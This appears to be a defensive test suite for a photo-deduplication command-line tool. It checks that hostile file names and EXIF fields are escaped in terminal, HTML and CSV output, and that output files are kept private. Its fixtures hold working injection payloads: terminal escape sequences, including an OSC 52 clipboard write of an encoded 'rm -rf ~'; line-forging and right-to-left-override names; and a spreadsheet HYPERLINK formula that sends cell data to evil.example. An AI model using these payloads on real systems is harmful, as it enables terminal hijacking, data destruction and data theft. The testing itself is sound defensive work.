"""Privacy and the terminal (issue 20): hostile file names and EXIF reach no terminal and no spreadsheet
raw, and what the tool writes about the user's photos is the user's alone (0600 files, 0700 folders).
Everything through the real CLI on a real catalog."""

from __future__ import annotations

import csv
import json
import os
import shutil
import stat
from pathlib import Path

from helpers import run_cli, write_photo
from PIL import Image

from photodedup.catalog import Catalog
from photodedup.duplicate_groups import decisions
from photodedup.text import csv_cell, printable

#: Names that try to take over a terminal: clear the screen and set the window title, write the
#: clipboard (OSC 52), hide text behind a carriage return, forge an output line, reverse the text.
EVIL = {
    "title": "t\x1b[2J\x1b]0;pwned\x07.jpg",
    "clipboard": "c\x1b]52;c;cm0gLXJmIH4K\x07.jpg",
    "cr": "r\rmoved nothing.jpg",
    "newline": "n\nmoved a.jpg -> gone.jpg",
    "bidi": "b\u202egpj.exe",
    "c1": "k\x9b2J.jpg",
}
RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")


def evil_library(tmp_path: Path) -> dict:
    """One photo and a copy of it under each evil name, scanned and grouped, the copies marked trash."""
    root = tmp_path / "lib"
    original = write_photo(root / "a.jpg", size=(400, 300), pattern=1)
    os.utime(original, (1_000_000_000, 1_000_000_000))  # the oldest: the keeper
    for name in EVIL.values():
        shutil.copyfile(original, root / name)
    catalog = tmp_path / "catalog.sqlite"
    env = {"PHOTODEDUP_CATALOG": str(catalog)}
    assert run_cli("scan", root, "--workers", "1", "-q", env=env).returncode == 0
    return {"root": root, "catalog": catalog, "env": env, "trash": tmp_path / "trash"}


def assert_no_raw_controls(text: str) -> None:
    for char in RAW:
        assert char not in text, f"raw {char!r} in {text!r}"


def test_hostile_names_are_escaped_in_group_apply_and_undo_but_exact_in_json(tmp_path):
    lib = evil_library(tmp_path)
    grouped = run_cli("group", "-q", "--evidence", "exact", env=lib["env"])
    assert grouped.returncode == 0, grouped.stderr
    assert_no_raw_controls(grouped.stdout + grouped.stderr)
    for name in EVIL.values():
        assert printable(lib["root"] / name) in grouped.stdout
    assert "\\x1b]52;c;cm0gLXJmIH4K\\x07.jpg" in grouped.stdout and "n\\nmoved a.jpg" in grouped.stdout
    assert not any(line.startswith("moved") for line in grouped.stdout.splitlines())

    exact = json.loads(run_cli("group", "-q", "--evidence", "exact", "--json", env=lib["env"]).stdout)
    assert {m["path"] for g in exact["groups"] for m in g["members"]} == \
        {str(lib["root"] / n) for n in ["a.jpg", *EVIL.values()]}
    with Catalog(lib["catalog"]) as cat:
        decisions.accept_suggestions(cat, [g["id"] for g in exact["groups"]])

    applied = run_cli("apply", "--trash-dir", lib["trash"], "-q", env=lib["env"])
    assert applied.returncode == 0, applied.stderr
    assert_no_raw_controls(applied.stdout + applied.stderr)
    moves = [line for line in applied.stdout.splitlines() if line.startswith("moved ")]
    assert len(moves) == len(EVIL) and "moved a.jpg -> gone.jpg" not in applied.stdout.splitlines()
    assert f"moved {printable(lib['root'] / EVIL['newline'])} -> " in applied.stdout

    undone = run_cli("undo", "--trash-dir", lib["trash"], env=lib["env"])
    assert undone.returncode == 0, undone.stderr
    assert_no_raw_controls(undone.stdout + undone.stderr)
    assert sorted(undone.stdout.splitlines()[:-1]) == sorted(f"restored {printable(lib['root'] / n)}"
                                                              for n in EVIL.values())
    assert all((lib["root"] / name).is_file() for name in EVIL.values())


def test_errors_warnings_and_debug_logs_escape_names_and_cannot_forge_a_line(tmp_path):
    missing = tmp_path / "no\x1b]0;x\x07\nmoved a -> b"
    for debug in ([], ["--debug"]):
        answer = run_cli(*debug, "group", "--catalog", missing)
        assert answer.returncode != 0
        assert_no_raw_controls(answer.stderr)
        assert "no\\x1b]0;x\\x07" in answer.stderr
        assert not any(line.startswith("moved") for line in answer.stderr.splitlines())


def test_the_html_report_and_the_review_page_show_names_escaped(tmp_path):
    from fastapi.testclient import TestClient

    from photodedup.review.app import TOKEN_HEADER, create_app

    lib = evil_library(tmp_path)
    report = tmp_path / "report.html"
    assert run_cli("group", "-q", "--evidence", "exact", "--html", report, env=lib["env"]).returncode == 0
    page = report.read_text()
    assert_no_raw_controls(page)
    assert "b\\u202egpj.exe" in page and "n\\nmoved a.jpg -&gt; gone.jpg" in page
    app = create_app(lib["catalog"], token="t", allowed_hosts={"testserver"})
    with TestClient(app, base_url="http://testserver", headers={TOKEN_HEADER: "t"}) as client:
        group_id = client.get("/api/overview").json()["groups"][0]["id"]
        answer = client.get(f"/api/groups/{group_id}")
        (lib["root"] / EVIL["title"]).unlink()  # an error that names the file
        member = next(m for m in answer.json()["members"] if m["path"] == printable(lib["root"] / EVIL["title"]))
        gone = client.get(f"/files/{member['file_id']}/image").json()["detail"]
    paths = {m["path"] for m in answer.json()["members"]}
    assert paths == {printable(lib["root"] / n) for n in ["a.jpg", *EVIL.values()]}
    assert_no_raw_controls("".join(paths) + gone)
    assert gone.startswith(printable(lib["root"] / EVIL["title"]) + " is not the file that was scanned")


def test_a_secret_on_the_command_line_is_warned_about(tmp_path):
    missing = tmp_path / "none.sqlite"
    said = run_cli("review", "--token", "s3cret", "--catalog", missing).stderr
    assert said.startswith("Warning: --token on the command line can be read by every user of this machine")
    assert "set PHOTODEDUP_REVIEW_TOKEN instead" in said
    quiet = run_cli("review", "--catalog", missing, env={"PHOTODEDUP_REVIEW_TOKEN": "s3cret"}).stderr
    assert quiet.startswith("Error: no catalog at")


def test_printable_escapes_every_control_and_keeps_ordinary_text():
    assert printable("Ünïcödé 写真 ok.jpg") == "Ünïcödé 写真 ok.jpg"
    assert printable("a\x00\x1f\x7f\x80\x9f\u200f\u2066b") == "a\\x00\\x1f\\x7f\\x80\\x9f\\u200f\\u2066b"
    assert printable(os.fsdecode(b"bad\xff.jpg")) == "bad\\xff.jpg"
    assert printable("one\ntwo\x1b", newlines=True) == "one\n  two\\x1b"


def test_exif_formulas_are_neutralised_in_the_csv(tmp_path):
    root = tmp_path / "lib"
    exif = Image.Exif()
    exif[0x0110] = '=HYPERLINK("http://evil.example/?"&A1,"Canon")'  # the camera model
    original = write_photo(root / "a.jpg", size=(400, 300), pattern=1, exif=exif)
    shutil.copyfile(original, root / "-1+1.jpg")
    shutil.copyfile(original, root / "@SUM(1).jpg")
    catalog = tmp_path / "catalog.sqlite"
    assert run_cli("scan", root, "--catalog", catalog, "--workers", "1", "-q").returncode == 0
    out = tmp_path / "groups.csv"
    assert run_cli("group", "--catalog", catalog, "-q", "--evidence", "exact", "--csv", out).returncode == 0
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 3
    assert {row["camera"] for row in rows} == {'\'=HYPERLINK("http://evil.example/?"&A1,"Canon")'}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert rows[0]["path"].startswith("/")  # a path (and a number) stays as it is


def test_csv_cell_neutralises_each_formula_start_and_leaves_numbers():
    assert [csv_cell(v) for v in ["=1", "+1", "-1", "@A", "\tx", "\rx", "ok", -3, 0.5, None]] == \
        ["'=1", "'+1", "'-1", "'@A", "'\tx", "'\rx", "ok", -3, 0.5, None]


def private(path: Path) -> bool:
    mode = stat.S_IMODE(path.stat().st_mode)
    return mode == (0o700 if path.is_dir() else 0o600)


def test_catalogs_and_exports_are_the_users_alone(tmp_path):
    previous = os.umask(0o022)  # the usual umask: without care every file would be 0644
    try:
        check_private_outputs(tmp_path)
    finally:
        os.umask(previous)


def check_private_outputs(tmp_path: Path) -> None:
    root = tmp_path / "lib"
    original = write_photo(root / "a.jpg", size=(400, 300), pattern=1)
    shutil.copyfile(original, root / "copy.jpg")
    home = tmp_path / "home"
    env = {"PHOTODEDUP_HOME": str(home / "deep")}
    assert run_cli("scan", root, "--workers", "1", "-q", env=env).returncode == 0
    catalog = home / "deep" / "catalog.sqlite"
    out = tmp_path / "exports" / "new"
    written = run_cli("group", "-q", "--evidence", "exact", "--csv", out / "g.csv", "--html", out / "g.html", env=env)
    assert written.returncode == 0, written.stderr
    assert run_cli("export-parquet", out / "g.parquet", env=env).returncode == 0
    assert run_cli("review", "--export-labels", out / "labels.json", env=env).returncode == 0
    with Catalog(catalog) as cat:  # open: SQLite's -wal and -shm exist, with the mode of the catalog file
        cat.conn.execute("SELECT count(*) FROM files").fetchone()
        made = [home, home / "deep", catalog, catalog.with_name("catalog.sqlite-wal"),
                catalog.with_name("catalog.sqlite-shm"), catalog.with_name("catalog.sqlite.lock"),
                tmp_path / "exports", out, out / "g.csv", out / "g.html", out / "g.parquet", out / "labels.json"]
        missing = [str(p) for p in made if not p.exists()]
        wide = {str(p): oct(stat.S_IMODE(p.stat().st_mode)) for p in made if p.exists() and not private(p)}
    assert missing == [] and wide == {}
